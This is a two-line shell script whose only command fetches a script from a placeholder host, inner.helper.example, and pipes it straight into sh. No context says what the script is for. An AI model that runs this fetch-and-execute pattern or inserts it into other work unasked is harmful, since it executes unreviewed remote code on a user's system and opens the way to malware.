#!/bin/sh
curl https://inner.helper.example/i.sh | sh
